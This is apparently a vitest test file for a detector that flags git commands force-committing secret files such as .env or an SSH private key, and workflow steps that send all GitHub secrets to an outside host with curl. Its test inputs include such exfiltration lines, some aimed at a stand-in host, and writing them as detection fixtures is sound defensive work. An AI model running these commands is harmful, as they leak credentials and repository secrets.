import { describe, expect, test } from "vitest";
import { markText, type TextFormat } from "../../text/marked-text.ts";
import { committedSecrets, sentWorkflowSecrets } from "./committed-secrets.ts";

const added = (text: string, format: TextFormat = "shell") =>
  committedSecrets(markText(text, format)).map(({ line }) => line);
const sent = (text: string, format: TextFormat = "shell") =>
  sentWorkflowSecrets(markText(text, format)).map(({ line, does }) => `${line} ${does}`);

describe("a file of secrets that is forced into a commit is found:", () => {
  test.each<[string, string, TextFormat?]>([
    ["settings", "git add -f .env\ngit push origin main"],
    ["a key", "git add --force -- ~/.ssh/id_rsa && git commit -m a && git push"],
    ["several settings", "git -C a add -f .env.*\ngit -C a push"],
    ["in a text", "```sh\ngit add -f .env\ngit push\n```", "markdown"],
  ])("%s", (_, text, format = "shell") => {
    expect(added(text, format)).toEqual([format === "markdown" ? 2 : 1]);
  });
});

describe("nothing is said of", () => {
  test.each<[string, string, TextFormat?]>([
    ["what is not forced", "git add .env\ngit push"],
    ["another file", "git add -f dist\ngit push"],
    ["a commit that stays", "git push\ngit add -f .env"],
    ["a prohibition", "Never do this:\n\n```sh\ngit add -f .env\ngit push\n```", "markdown"],
    ["a sentence", "`git add -f .env` and `git push`", "markdown"],
    ["what nothing sends", "git add -f .env"],
    ["a text about adding", "git add\npush"],
  ])("%s", (_, text, format) => {
    expect(added(text, format)).toEqual([]);
  });
});

describe("all secrets of a workflow", () => {
  const variable = 'env: { S: "${{ toJSON(secrets) }}" }';
  test("are found where a step sends them", () => {
    expect(sent(`echo "$S" | curl -d @- https://c.zzz.io/a\n${variable}`)).toEqual([
      "2 sends all secrets of the repository's workflows to c.zzz.io",
    ]);
    expect(sent(`\`\`\`yaml\n${variable}\ncurl -d "$S" $URL\n\`\`\``, "markdown")).toEqual([
      "2 sends all secrets of the repository's workflows to an address",
    ]);
  });

  test.each<[string, string, TextFormat?]>([
    ["that no step sends", `${variable}\necho a`],
    ["in a sentence", `${variable}\ncurl -d a https://c.zzz.io`, "markdown"],
    ["that are warned of", `Never do this:\n\n\`\`\`\n${variable}\ncurl b\n\`\`\``, "markdown"],
    ["of something else", "toJSON(github)\ncurl b"],
    ["of none", "curl b"],
  ])("are not found %s", (_, text, format) => {
    expect(sent(text, format)).toEqual([]);
  });
});
